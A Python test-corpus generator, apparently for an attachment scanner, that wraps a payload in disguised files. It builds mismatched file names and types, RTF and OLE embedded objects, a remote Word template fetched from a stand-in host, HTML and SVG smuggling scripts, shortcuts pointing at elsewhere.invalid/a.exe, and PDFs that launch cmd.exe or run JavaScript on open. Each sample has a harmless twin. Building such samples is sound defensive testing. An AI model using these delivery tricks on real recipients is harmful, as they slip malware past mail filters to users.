"""Families 12, 27 to 29 and 32: what a file is against what it says it is; documents, pages."""

import base64
import struct

import archives
import cfb
from mime import multipart, named, text_part, attachment, with_file
from payloads import OFFICE, RELATION, docx, pdf, zipped
from registry import NAMELESS, table, variant

OCTETS = "application/octet-stream"

# 12: which of the three is believed?
table(12, [
    ("picture by name and type", ("photo.jpg", "image/jpeg")),
    ("text by name and type", ("readme.txt", "text/plain")),
    ("pdf by name and type", ("report.pdf", "application/pdf")),
    ("dangerous type, other name", ("data.dat", "application/x-msdownload")),
    ("unknown ending", ("data.qqq", OCTETS)),
    ("no ending", ("data", OCTETS)),
    ("video", ("film.mp4", "video/mp4")),
    ("old mail", ("letter.eml", "text/plain")),
], lambda p, row: named(p.content, row[0], "text/plain" if p.harmless and "ms" in row[1]
                        else row[1]), kinds=NAMELESS)
table(12, [
    ("no name, octets", (OCTETS, "attachment")), ("no name, no type", (None, "attachment")),
    ("no name, no fields", (None, None)), ("no name, picture", ("image/png", "inline")),
    ("no name, audio", ("audio/mpeg", None)),
], lambda p, row: with_file(p.content, *row), kinds=("by_content", "both", "macro", "eicar"))
table(12, [
    ("name with a type of text", "text/plain"), ("name with a type of a page", "text/html"),
    ("name with a type of a picture", "image/gif"), ("name with an odd type", "x/y"),
], lambda p, type_: named(p.content, p.name, type_))


# 27: the payload is a document, or a part of one.
variant(27, "file in the object pool", NAMELESS)(lambda p: named(ole_object(
    p, "WordDocument", struct.pack("<I", len(p.content)) + p.content), "report.doc", OCTETS))
variant(27, "as doc", NAMELESS)(lambda p: named(p.content, "report.doc", "application/msword"))


def rtf(p, version=b"{\\rtf1", gap=b""):
    """An object in RTF, as a package; its data is in hex, here with what readers skip."""
    data = archives.package(p)
    native = struct.pack("<III", 0x501, 2, 8) + b"Package\0" + bytes(8)
    native += struct.pack("<I", len(data)) + data
    text = native.hex().encode()
    lines = [text[at:at + 128] for at in range(0, len(text), 128)]
    return (version + b"\\ansi Hello{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata "
            + (gap + b"\r\n").join(lines) + b"}}}")


def template(p):
    """A template that would be fetched; the payload itself is beside it."""
    relation = RELATION % ("r7", OFFICE + "/attachedTemplate",
                           "http://elsewhere.invalid/" + p.name, ' TargetMode="External"')
    return docx(b"Hello", relations="" if p.harmless else relation,
                more=[("word/media/" + p.name, p.content)])


def ole_object(p, name, content=None):
    """A document of another kind with a package as a stream, or with the bare file as one."""
    content = content or archives.native(p)
    return cfb.compound({name: b"", "ObjectPool": {"_1": {"\x01Ole10Native": content}}})


def sheet(p):
    """A workbook that embeds the file."""
    return zipped([
        ("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<workbook/>"),
        ("xl/embeddings/oleObject1.bin", archives.package(p))])


table(27, [
    ("object in RTF", (rtf, "report.rtf", "application/rtf")),
    ("RTF under doc", (rtf, "report.doc", "application/msword")),
    ("RTF with an odd beginning", (lambda p: rtf(p, b"{\\rt"), "report.doc", OCTETS)),
    ("RTF with gaps", (lambda p: rtf(p, gap=b"\\par "), "report.rtf", "text/rtf")),
    ("template", (template, "report.docx", OCTETS)),
    ("object pool", (lambda p: ole_object(p, "WordDocument"), "report.doc", OCTETS)),
    ("object in a workbook of old", (lambda p: ole_object(p, "Workbook"), "figures.xls", OCTETS)),
    ("object in a workbook", (sheet, "figures.xlsx", OCTETS)),
    ("document in a message file", (lambda p: cfb.compound({
        "__properties_version1.0": b"", "__attach_version1.0_#00000000": {
            "__substg1.0_37010102": p.content,
            "__substg1.0_3707001F": p.name.encode("utf-16-le")}}), "letter.msg", OCTETS)),
], lambda p, row: named(row[0](p), row[1], row[2]))


# 28: a page brings its file along. The twin's page shows the same file without a script.
def page(p, how):
    """HTML that holds the file and, unless harmless, builds it."""
    text = base64.b64encode(p.content).decode()
    if p.harmless:
        return ("<html><body><img alt='a file' src='data:image/png;base64,%s'></body></html>"
                % text).encode()
    step = max(40, len(text) // 3)
    split = '"+"'.join(text[at:at + step] for at in range(0, len(text), step))
    scripts = {
        "blob": 'var b=new Blob([Uint8Array.from(atob("%s"),c=>c.charCodeAt(0))]);'
                'var a=document.createElement("a");a.href=URL.createObjectURL(b);'
                'a.download="%s";a.click();' % (text, p.name),
        "save": 'navigator.msSaveOrOpenBlob(new Blob([atob("%s")]),"%s");' % (text, p.name),
        "split": 'var d="%s";var a=document.createElement("a");a.href="data:'
                 'application/octet-stream;base64,"+d;a.download="%s";a.click();'
                 % (split, p.name),
    }
    if how == "link":
        return ('<html><body><a download="%s" href="data:application/octet-stream;base64,%s">'
                'open</a></body></html>' % (p.name, text)).encode()
    return ("<html><body><script>%s</script></body></html>" % scripts[how]).encode()


def picture(p, how):
    """SVG; the script is left out of the twin."""
    text = base64.b64encode(p.content).decode()
    active = {
        "script": '<script>var d="%s";location="data:;base64,"+d;</script>' % text,
        "event": '<image href="x" onload="go(\'%s\')"/>' % text,
        "foreign": '<foreignObject><iframe src="data:text/html;base64,%s"/></foreignObject>' % text,
    }[how]
    body = '<image href="data:image/png;base64,%s"/>' % text if p.harmless else active
    return ('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">%s</svg>'
            % body).encode()


def folded(name, value):
    """A line of iCalendar or vCard, folded (RFC 5545 section 3.1)."""
    line = name + value
    pieces = [line[:70]] + [line[at:at + 70] for at in range(70, len(line), 70)]
    return "\r\n ".join(pieces) + "\r\n"


def calendar(p):
    """An event with an attachment in it."""
    text = base64.b64encode(p.content).decode()
    attach = folded("ATTACH;FILENAME=%s;ENCODING=BASE64;VALUE=BINARY:" % p.name, text)
    return ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:corpus\r\nBEGIN:VEVENT\r\nUID:1\r\n"
            "DTSTART:20261124T120000Z\r\n%sEND:VEVENT\r\nEND:VCALENDAR\r\n" % attach).encode()


def card(p):
    """A card whose picture is the file."""
    text = base64.b64encode(p.content).decode()
    return ("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Somebody\r\n%sEND:VCARD\r\n"
            % folded("PHOTO;ENCODING=b;TYPE=PNG:", text)).encode()


table(28, [
    ("blob", (lambda p: page(p, "blob"), "page.html", "text/html")),
    ("save by the browser", (lambda p: page(p, "save"), "page.htm", "text/html")),
    ("pieces joined", (lambda p: page(p, "split"), "page.xhtml", "application/xhtml+xml")),
    ("link to data", (lambda p: page(p, "link"), "page.html", "text/html")),
    ("page as text", (lambda p: page(p, "blob"), "readme.txt", "text/plain")),
    ("page in a zip", (lambda p: zipped([("page.html", page(p, "blob"))]), "a.zip", OCTETS)),
    ("script in SVG", (lambda p: picture(p, "script"), "drawing.svg", "image/svg+xml")),
    ("event in SVG", (lambda p: picture(p, "event"), "drawing.svg", "image/svg+xml")),
    ("page in SVG", (lambda p: picture(p, "foreign"), "drawing.svg", "image/svg+xml")),
    ("calendar", (calendar, "event.ics", "text/calendar")),
], lambda p, row: named(row[0](p), row[1], row[2]))


variant(28, "card", NAMELESS)(lambda p: named(card(p), "card.vcf", "text/vcard"))


# 29: each its own way of being opened; the mark is inside the file that is opened.
def image(p):
    """A disk image: boot sector of FAT, the file behind it."""
    boot = b"\xebX\x90MSDOS5.0" + struct.pack("<HBHBHHBH", 512, 1, 1, 2, 224, 2880, 0xF0, 9)
    return boot.ljust(510, b"\0") + b"\x55\xaa" + p.content


def wrapped(head, name, type_=OCTETS):
    """A kind known by its head; the twin keeps to text and its own name."""

    def make(p):
        if p.harmless:
            return named(p.content, p.name)
        return named(head + p.content, name, type_)

    return make


SHORTCUT = struct.pack("<I", 0x4C) + bytes.fromhex("0114020000000000c000000000000046") + bytes(56)
ONENOTE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
for _name in ("iso", "img"):
    variant(29, _name, prohibited=True)(
        lambda p, name=_name: named(archives.iso(p), "disk." + name))
table(29, [
    ("floppy image", wrapped(b"\xebX\x90MSDOS5.0".ljust(510, b"\0") + b"\x55\xaa", "disk.img")),
    ("vhd", wrapped(b"conectix".ljust(512, b"\0"), "disk.vhd")),
    ("vhdx", wrapped(b"vhdxfile".ljust(512, b"\0"), "disk.vhdx")),
    ("shortcut", wrapped(SHORTCUT, "report.lnk")),
    ("shortcut under another name", wrapped(SHORTCUT, "report.dat")),
    ("internet shortcut", wrapped(
        b"[InternetShortcut]\r\nURL=file://elsewhere.invalid/a.exe\r\n;", "report.url")),
    ("OneNote", wrapped(ONENOTE + bytes(64), "notes.one")),
    ("xll", wrapped(b"", "figures.xll")),
    ("installer", wrapped(b"", "setup.msi")),
    ("app package", lambda p: named(p.content, p.name) if p.harmless else named(zipped([
        ("AppxManifest.xml", "<Package/>"), (p.name, p.content)]), "setup.msix")),
    ("Java", lambda p: named(p.content, p.name) if p.harmless else named(zipped([
        ("META-INF/MANIFEST.MF", "Main-Class: A\r\n"), ("A.class", b"\xca\xfe\xba\xbe\0\0\0\x34"),
        (p.name, p.content)]), "tool.jar")),
    ("settings", wrapped(b"", "profile.reg")),
    ("PowerShell", wrapped(b"", "script.ps1xml")),
    ("help file", wrapped(b"ITSF\x03\0\0\0".ljust(96, b"\0"), "help.chm")),
    ("Debian package", lambda p: named(archives.ar(p), "notes.a" if p.harmless else "tool.deb")),
    ("search connector", wrapped(b"<?xml version='1.0'?><!-- ", "find.search-ms")),
], lambda p, make: make(p))


# 32: PDF; the twin has a page more in place of what is active.
def active_pdf(p, how):
    """A PDF that holds the file, and does something unless it is harmless."""
    stream = b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(p.content)
    stream += p.content + b"\nendstream"
    picture = b"<< /Type /XObject /Length %d >>\nstream\n" % len(p.content)
    picture += p.content + b"\nendstream"
    if p.harmless:
        return pdf(p.mark, b"", [picture])
    name = p.name.encode()
    spec = b"<< /Type /Filespec /F (" + name + b") /EF << /F 5 0 R >> >>"
    action = {
        "embedded": (b"/Names << /EmbeddedFiles << /Names [(" + name + b") 6 0 R] >> >>", spec),
        "script": (b"/OpenAction 6 0 R", b"<< /S /JavaScript /JS (this.exportDataObject"
                   b"({cName:'a', nLaunch:2});) >>"),
        "launch": (b"/OpenAction 6 0 R", b"<< /S /Launch /F (cmd.exe) >>"),
        "names in hex": (b"/Open#41ction 6 0 R", b"<< /S /Java#53cript /J#53 (app.alert(1);) >>"),
        "annotation": (b"/AA << /O 6 0 R >>", b"<< /S /JavaScript /JS <6170702e616c65727428293b>"
                       b" >>"),
        "submit": (b"/OpenAction 6 0 R", b"<< /S /ImportData /F (\\\\\\\\elsewhere\\\\a) >>"),
    }[how]
    return pdf(b"Hello", action[0], [stream, action[1]])


table(32, [
    (how, how) for how in ("embedded", "script", "launch", "names in hex", "annotation", "submit")
], lambda p, how: named(active_pdf(p, how), "report.pdf", "application/pdf"))
table(32, [
    ("bytes before", lambda p: b"\r\n" * 100 + active_pdf(p, "script")),
    ("under another name", lambda p: active_pdf(p, "embedded")),
], lambda p, make: multipart([text_part(), attachment(
    make(p), "text/plain", 'attachment; filename="notes.txt"')]))
